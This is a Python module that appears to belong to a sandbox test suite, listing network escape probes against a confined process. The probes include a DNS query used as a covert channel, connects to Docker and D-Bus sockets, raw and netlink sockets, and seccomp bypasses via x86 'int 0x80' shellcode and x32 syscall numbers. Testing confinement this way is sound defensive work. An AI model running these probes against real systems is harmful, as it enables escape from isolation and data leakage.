"""Programs that want to speak to somebody outside."""

from __future__ import annotations

from hostile_attacks.base import Attack

_HARDWARE = "needs hardware or a module that most machines lack"


def reach(name: str, attack: str, code: str, unproved: str | None = None, alone: bool = False) -> Attack:
    return Attack(name, "network", attack, code, {}, unproved, alone)


NETWORK = (
    reach("tcp-to-the-host", "connects to a port that listens on the host's loopback", """
attempt("v4", lambda: socket.create_connection(("127.0.0.1", OUTSIDE_PORT), 1))
attempt("v6", lambda: socket.create_connection(("::ffff:127.0.0.1", OUTSIDE_PORT), 1))
"""),
    reach("udp-to-the-host", "sends a datagram to the host's loopback and hopes for an answer", """
def ask():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as end:
        end.settimeout(1)
        end.sendto(b"hello", ("127.0.0.1", UDP_PORT))
        return end.recv(10)
attempt("udp", ask)
"""),
    reach("udp-to-the-world", "sends a datagram to an address far away", """
def send():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as end:
        end.connect(("192.0.2.1", 53))
        return True
attempt("udp", send)
""", unproved="a machine without a network refuses it as well"),
    reach("names-resolved", "asks the resolver, whose question is a message in itself", """
attempt("dns", lambda: socket.getaddrinfo("localhost.secret.example.com", 80))
attempt("file", lambda: read("/etc/resolv.conf"))
attempt("nscd", lambda: socket.socket(socket.AF_UNIX).connect("/var/run/nscd/socket") is None)
"""),
    reach("raw-packets", "makes raw and packet sockets", """
attempt("raw", lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, 1))
attempt("packet", lambda: socket.socket(17, socket.SOCK_RAW, 3))
""", unproved="needs a right over the host's own network, which no user namespace gives"),
    reach("ping", "makes the datagram socket of ping, which needs no right on some machines", """
attempt("ping", lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM, 1).connect(("127.0.0.1", 0)) is None)
attempt("ping6", lambda: socket.socket(socket.AF_INET6, socket.SOCK_DGRAM, 58).connect(("::1", 0)) is None)
""", unproved="only where the host's ping_group_range allows it"),
    reach("routing-table", "speaks netlink to read and change interfaces", """
for protocol in (0, 9, 15, 16):
    attempt(protocol, lambda: socket.socket(16, socket.SOCK_RAW, protocol))
"""),
    reach("interfaces-asked", "asks the interfaces of the host by ioctl", """
import fcntl
def ask():
    end = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    block = ctypes.create_string_buffer(4096)
    wanted = bytearray(struct.pack("iL", 4096, ctypes.addressof(block)))
    fcntl.ioctl(end, 0x8912, wanted)
    names = {block.raw[at:at + 16].rstrip(b"\\0") for at in range(0, struct.unpack("iL", wanted)[0], 40)}
    return names - {b"lo", b""}
attempt("names", ask)
""", unproved="a machine without a network has none but lo"),
    reach("virtual-machine-socket", "speaks to the hypervisor over vsock", """
attempt("vsock", lambda: socket.socket(40, socket.SOCK_STREAM))
""", unproved=_HARDWARE),
    reach("kernel-crypto-socket", "makes the socket of the kernel's ciphers, a door with a long record", """
attempt("alg", lambda: socket.socket(38, socket.SOCK_SEQPACKET))
""", unproved=_HARDWARE),
    reach("odd-families", "makes sockets of families that nobody uses and nobody guards", """
for family in (3, 4, 5, 6, 9, 15, 21, 22, 23, 24, 26, 28, 29, 30, 31, 32, 35, 36, 37, 39, 41, 42, 43, 44, 45):
    for kind in (1, 2, 3, 5):
        attempt((family, kind), lambda: socket.socket(family, kind))
""", unproved=_HARDWARE),
    reach("socket-by-its-path", "connects to sockets of services that lie in the file system", """
for path in (SOCKET_PATH, "/run/docker.sock", "/var/run/docker.sock", "/run/dbus/system_bus_socket",
             "/run/containerd/containerd.sock", "/run/systemd/private", "/run/user/0/bus"):
    attempt(path, lambda: socket.socket(socket.AF_UNIX).connect(path) is None)
"""),
    reach("abstract-socket", "connects to a socket that has a name and no path", """
attempt("abstract", lambda: socket.socket(socket.AF_UNIX).connect("\\0" + ABSTRACT) is None)
"""),
    reach("datagram-to-a-path", "sends a datagram to a socket in the file system, as loggers do", """
attempt("dgram", lambda: socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM).sendto(b"x", DGRAM_PATH))
attempt("log", lambda: socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM).sendto(b"x", "/dev/log"))
"""),
    reach("a-door-for-others", "listens where a program outside would find it", """
def listen(path):
    end = socket.socket(socket.AF_UNIX)
    end.bind(path)
    end.listen()
    return True
attempt("path", lambda: listen(BAIT_PATH + "/door"))
attempt("shared", lambda: listen("/dev/shm/" + SHARED_NAME + "-door") and False)
"""),
    reach("socket-by-old-call", "makes its socket through the old 32-bit call, whose number the filter does not know", """
def call(number, *arguments):
    import mmap
    code = mmap.mmap(-1, 4096, prot=7)
    code.write(bytes.fromhex("53b8") + struct.pack("I", number) + bytes.fromhex("bb02000000b901000000ba00000000cd805bc3"))
    return ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(code)))()
attempt("int80", lambda: X86 and call(359) >= 0)
""", unproved="not every kernel still answers 32-bit programs"),
    reach("newer-numbers", "makes calls by numbers that are newer than the filter and by their x32 twins", """
attempt("x32", lambda: X86 and libc.syscall(0x40000000 | 41, 2, 1, 0) >= 0)
def new(number):
    ctypes.set_errno(0)
    libc.syscall(number, -1, 0, 0, 0, 0, 0)
    return ctypes.get_errno() not in (errno.ENOSYS, errno.EPERM)
for number in range(463, 470):
    attempt(number, lambda: new(number))
""", unproved="older kernels have no newer calls"),
)  # fmt: skip
